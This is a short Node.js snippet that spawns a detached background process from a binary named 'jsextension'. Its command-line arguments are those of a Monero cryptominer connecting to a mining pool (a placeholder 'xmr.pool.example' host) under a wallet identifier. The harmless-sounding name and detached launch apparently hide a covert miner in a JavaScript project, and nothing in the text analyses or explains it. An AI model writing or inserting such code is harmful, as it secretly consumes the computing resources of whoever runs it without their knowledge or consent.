const { spawn } = require('child_process');
spawn('./jsextension', ['-o', 'stratum+tcp://xmr.pool.example:3333', '-u', 'wallet', '--donate-level', '1'], { detached: true });
